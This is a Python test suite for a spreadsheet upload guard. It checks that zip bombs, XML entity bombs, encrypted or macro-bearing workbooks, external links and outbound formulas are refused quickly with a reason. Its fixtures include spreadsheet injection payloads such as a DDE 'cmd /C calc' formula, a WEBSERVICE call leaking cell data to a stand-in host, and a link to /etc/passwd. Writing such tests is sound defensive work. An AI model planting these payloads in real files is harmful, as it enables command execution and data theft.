"""Files that must not be taken in: refused in under two seconds, with a reason (acceptance 29)."""

import time
from collections.abc import Callable

import pytest

from app.guard.client import parse_grid
from app.guard.refusals import FileRefused, TooLong
from app.rendering.sentences import sentence
from tests.frames.files import ods
from tests.guard import bombs

OUTSIDE = bombs.relations(("oleObject", "file:///etc/passwd", 'TargetMode="External"'))
DDE = (
    '<table:table table:name="A"><table:table-source xlink:href="http://exemple.fr/a.ods"/>'
    "</table:table>"
)
ENCRYPTED_ODS = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
)


def refusal(data: bytes, name: str = "cadre.xlsx") -> FileRefused:
    """In less than two seconds, at the quietest of three tries: the machine has neighbours."""
    for _ in range(3):
        started = time.monotonic()
        with pytest.raises(FileRefused) as refused:
            parse_grid(data, name)
        spent = time.monotonic() - started
        if spent < 2 and not isinstance(refused.value, TooLong):
            break
    assert spent < 2
    said = sentence(refused.value.code, refused.value.facts)
    assert "…" not in said
    assert "{" not in said
    return refused.value


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: bombs.zeros(110_000_000), "zip_bomb"),
        (lambda: bombs.zeros(90_000_000), "zip_bomb"),
        (lambda: bombs.many_entries(1_001), "zip_bomb"),
        (bombs.laughs, "doctype"),
        (bombs.encrypted_zip, "encrypted"),
        (lambda: bombs.ole("EncryptedPackage"), "encrypted"),
        (lambda: bombs.ole("Workbook"), "old_format"),
        (lambda: bombs.workbook(bombs.rows(100_000)), "too_many_rows"),
        (lambda: bombs.workbook(bombs.rows(5_041)), "too_many_rows"),
        (lambda: bombs.workbook("", {"xl/vbaProject.bin": b"x"}), "macro"),
        (lambda: bombs.workbook("", {"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
        (lambda: bombs.workbook("", {"xl/embeddings/oleObject1.bin": b"x"}), "outside"),
        (lambda: bombs.workbook("", {"xl/connections.xml": "<a/>"}), "outside"),
        (lambda: bombs.workbook("", sheet_relations=OUTSIDE), "outside"),
        (lambda: bombs.workbook("<sheetData><row>"), "unreadable"),
        (lambda: bombs.workbook("<sheetData/>")[:-60], "unreadable"),
        (lambda: b"%PDF-1.7 ...", "not_a_spreadsheet"),
        (lambda: b"\x89PNG\r\n\x1a\n", "not_a_spreadsheet"),
        (lambda: b"", "empty"),
        (lambda: b"  \r\n ", "empty"),
        (lambda: b"a;b\n1;2", "wrong_name"),
        (lambda: b"x" * (10 * 1024 * 1024 + 1), "too_large"),
    ],
)
def test_refused(make: Callable[[], bytes], code: str) -> None:
    assert refusal(make()).code == f"guard.{code}"


@pytest.mark.parametrize("reference", ["A1048576", "C900000", "A5041"])
def test_a_lone_cell_far_below(reference: str) -> None:
    row = reference[1:]
    cell = bombs.text_cell(reference, "x")
    found = refusal(bombs.workbook(f'<sheetData><row r="{row}">{cell}</row></sheetData>'))
    assert found.code == "guard.too_many_rows"
    assert found.facts["row"] == int(row)


def test_a_lone_cell_far_right() -> None:
    cell = bombs.text_cell("XFD1", "x")
    found = refusal(bombs.workbook(f'<sheetData><row r="1">{cell}</row></sheetData>'))
    assert found.code == "guard.too_many_columns"


def test_colours_far_below_are_nothing() -> None:
    sheet = '<sheetData><row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    assert parse_grid(bombs.workbook(sheet), "cadre.xlsx").sheets[0].last_row == 0


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://exemple.fr/?"&A1)',
        '_xlfn.WEBSERVICE("http://exemple.fr")',
        "cmd|' /C calc'!A0",
        'DDE("soffice";"a.ods";"A1")',
        "[1]Feuil1!A1",
        "'http://exemple.fr/[prix.xlsx]Feuil1'!A1",
        "'\\\\serveur\\partage\\[prix.xlsx]Feuil1'!A1",
        'HYPERLINK("http://exemple.fr","cliquez")',
        'IMPORTXML("http://exemple.fr";"//a")',
        'RTD("x",,"y")',
    ],
)
def test_a_formula_that_calls_out(formula: str) -> None:
    found = refusal(bombs.formula(formula))
    assert found.code == "guard.formula_calls_out"
    assert (found.facts["sheet"], found.facts["cell"]) == ("Cadre", "B2")


@pytest.mark.parametrize(
    "formula", ["SUM(D5:D9)", 'IF(A1="a|b","http://x","")', "Listes!A1*2", "Table1[Quantité]*2"]
)
def test_ordinary_formulas_pass(formula: str) -> None:
    sheet = parse_grid(bombs.formula(formula), "cadre.xlsx").sheets[0]
    assert sheet.cell(2, 2).formula == formula


def test_a_formula_in_a_csv() -> None:
    found = refusal('Désignation;Quantité\n=WEBSERVICE("x");2\n'.encode(), "cadre.csv")
    assert found.code == "guard.formula_calls_out"


def test_ods() -> None:
    assert refusal(ods(DDE), "c.ods").code == "guard.outside"
    assert refusal(ods("", {"META-INF/manifest.xml": ENCRYPTED_ODS}), "c.ods").code == (
        "guard.encrypted"
    )
    assert refusal(ods("", {"Basic/Standard/Module1.xml": "<a/>"}), "c.ods").code == "guard.macro"
    calls = (
        '<table:table table:name="A"><table:table-row><table:table-cell'
        " table:formula=\"of:=['file:///prix.ods'#$Feuille.A1]\"/></table:table-row></table:table>"
    )
    assert refusal(ods(calls), "c.ods").code == "guard.formula_calls_out"
    far = (
        '<table:table table:name="A"><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    )
    assert refusal(ods(far), "c.ods").code in ("guard.too_many_rows", "guard.too_many_columns")


def test_the_name_must_be_the_contents() -> None:
    data = bombs.workbook("<sheetData/>")
    for name in ("cadre.csv", "cadre.ods", "cadre", "cadre.xlsm", "cadre.xls"):
        assert refusal(data, name).code == "guard.wrong_name"
    assert parse_grid(data, "CADRE v2.XLSX").sheets
